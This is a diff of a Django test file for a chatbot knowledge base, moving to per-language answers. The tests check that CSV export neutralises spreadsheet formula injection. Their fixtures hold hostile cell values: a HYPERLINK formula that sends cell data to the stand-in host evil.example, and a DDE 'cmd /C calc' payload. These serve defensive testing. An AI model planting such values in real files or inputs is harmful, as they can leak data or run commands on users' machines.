@@ -12,7 +12,7 @@ from chatbot.knowledge.models import AlternateQuestion, QAPair
 from chatbot.knowledge.resources import FORMULA_STARTS, formula_escape, formula_unescape
 
 pytestmark = pytest.mark.django_db
-FIELDS = ("question", "answer", "alternates", "language", "category", "handoff")
+FIELDS = ("question", "answer_en", "answer_zh", "alternates", "category", "handoff")
 # Text is stored stripped (the admin's forms, the import, the review queue's whitespace folding): a stored
 # question never starts with a tab or CR, so the round trips use the other starts.
 STORABLE_STARTS = tuple(start for start in FORMULA_STARTS if not start.isspace())
@@ -21,20 +21,19 @@ STORABLE_STARTS = tuple(start for start in FORMULA_STARTS if not start.isspace()
 def hostile_pairs(starts: tuple[str, ...] = STORABLE_STARTS) -> None:
     """One pair per dangerous start, in every text column an operator or a customer's message can fill."""
     for number, start in enumerate(starts):
-        pair = QAPair.objects.create(
+        pair = QAPair.objects.create_topic(
             question=f'{start}HYPERLINK("http://evil.example/?"&A1) q{number}',
-            answer=f"{start}1+1 answer {number}",
+            answers={"en": f"{start}1+1 answer {number}", "zh": f"{start}2+2 回答 {number}"},
             category=f"{start}cmd|' /C calc'!A0",
-            language="en",
         )
         AlternateQuestion.objects.create(pair=pair, text=f"{start}2+3 alternate {number}", source="log")
-    QAPair.objects.create(question="'=already quoted question", answer="'@already quoted answer", language="en")
+    QAPair.objects.create_topic(question="'=already quoted question", answers={"en": "'@already quoted answer"})
 
 
 def snapshot() -> set:
     return {
-        (p.question, p.answer, p.category, p.language, tuple(a.text for a in p.alternates.all()))
-        for p in QAPair.objects.prefetch_related("alternates")
+        (p.question, tuple(sorted(p.answer_texts().items())), p.category, tuple(a.text for a in p.alternates.all()))
+        for p in QAPair.objects.prefetch_related("alternates", "translations")
     }
 
 
@@ -55,7 +54,7 @@ def test_no_exported_cell_starts_like_a_formula(admin_client):
     rows = cells(response.content.decode("utf-8"))
     assert len(rows) == QAPair.objects.count()
     for row in rows:
-        for column in ("question", "answer", "alternates", "category"):
+        for column in ("question", "answer_en", "answer_zh", "alternates", "category"):
             assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
     hostile = [row for row in rows if row["question"].endswith(" q0")]
     assert hostile[0]["question"].startswith("'=HYPERLINK(")
